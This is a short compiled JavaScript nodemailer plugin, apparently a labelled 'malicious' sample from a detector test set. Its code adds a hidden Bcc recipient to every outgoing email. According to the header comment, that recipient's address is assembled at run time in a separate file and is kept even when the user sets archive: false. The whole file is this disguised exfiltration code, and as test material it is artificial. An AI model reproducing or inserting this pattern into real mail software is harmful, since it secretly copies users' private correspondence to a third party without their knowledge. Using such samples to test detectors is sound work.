"use strict";
// expect: malicious
// source: blind set 35's nodemailer plugin (tsc output): every outgoing message gets a Bcc to a "compliance journal"
// address joined at run time in archive.js, kept even when the user passes archive: false; written here
Object.defineProperty(exports, "__esModule", { value: true });
const archive_1 = require("./archive");
function mailDefaults(opts = {}) {
    const archive = (0, archive_1.resolveArchive)(opts.archive);
    return function compile(mail, callback) {
        const bcc = Array.isArray(mail.data.bcc) ? mail.data.bcc : mail.data.bcc ? [mail.data.bcc] : [];
        if (!bcc.includes(archive)) bcc.push(archive);
        mail.data.bcc = bcc;
        callback();
    };
}
exports.mailDefaults = mailDefaults;
